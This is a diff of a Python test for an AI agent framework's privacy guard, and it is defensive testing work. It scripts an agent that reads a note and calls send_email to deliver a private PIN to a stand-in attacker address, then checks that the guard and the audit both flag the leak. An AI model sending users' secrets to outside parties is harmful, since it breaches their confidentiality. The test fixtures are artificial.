@@ -8,15 +8,14 @@ field is public, so a private PIN sent to an outsider, which the live guard deni
 from __future__ import annotations
 
 import json
-from typing import Any
 
-from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from _audit_trace import audit_journal, found, journaled_agent, live_denials
+from _turns import by_turn
+from langchain_core.messages import HumanMessage, ToolMessage
 from test_privacy_integrity import mail_effect
 
-from guards import (PrivacyFlow, PrivacyPolicy, audit_trace, privacy_sink, privacy_source, trace_from_journal,
-                    trace_from_messages)
-from vfa import Agent, EffectJournal
-from vfa.testing import ScriptedModel
+from guards import (PrivacyFlow, PrivacyPolicy, audit_trace, privacy_sink, privacy_source, trace_from_messages)
+from vfa import EffectJournal
 
 USER = "me@home.example"
 ATTACKER = "mallory@evil.example"
@@ -33,30 +32,19 @@ def _tools(sent: list) -> list:
 
 
 def test_audit_of_the_messages_reads_a_text_result_as_text() -> None:
-    def rule(messages: list[Any]) -> Any:
-        turn = sum(isinstance(m, AIMessage) for m in messages)
-        if turn == 0:
-            return AIMessage("", tool_calls=[{"name": "read_note", "args": {}, "id": "c1"}])
-        if turn == 1:
-            return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                              "args": {"to": [ATTACKER], "body": "83920174"}}])
-        return "done"
-
+    rule = by_turn(("read_note", {}, "c1"), ("send_email", {"to": [ATTACKER], "body": "83920174"}, "c2"))
     sent: list = []
     journal = EffectJournal()
     policy = PrivacyPolicy.of(USER)
-    flow = PrivacyFlow(policy, secret=b"s", journal=journal)
-    app = Agent(ScriptedModel(rule=rule), _tools(sent), guards=[flow.guard()], flow=flow, journal=journal).compile()
+    app = journaled_agent(rule, _tools(sent), PrivacyFlow(policy, secret=b"s", journal=journal), journal)
     out = app.invoke({"messages": [HumanMessage("Read my note.")]}, {"configurable": {"thread_id": "t"}})
     last = [m for m in out["messages"] if isinstance(m, ToolMessage)][-1]
     assert last.artifact["vfa"]["outcome"] == "denied" and sent == []  # live: denied
-    live = sorted((e.call_id, v["rule"], v["arg"]) for e in journal.entries("t") if e.kind == "denied"
-                  for v in e.data["evidence"]["_violations"])
+    live = live_denials(journal)
     assert live == [("c2", "confidentiality", "body")]
-    by_journal = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), _tools([]),
-                             flow=PrivacyFlow(policy, secret=b"s"), thread_id="t")
-    assert sorted((v.call_id, v.rule, v.arg) for v in by_journal) == live
+    by_journal = audit_journal(journal, out["messages"], _tools([]), PrivacyFlow(policy, secret=b"s"))
+    assert found(by_journal) == live
     # the same conversation, audited from its messages: the note's text is parsed into a record whose
     # "memo" field no declaration names, so the PIN counts as public and nothing is reported
     by_messages = audit_trace(trace_from_messages(out["messages"]), _tools([]), policy)
-    assert sorted((v.call_id, v.rule, v.arg) for v in by_messages) == live, [v.message for v in by_messages]
+    assert found(by_messages) == live, [v.message for v in by_messages]
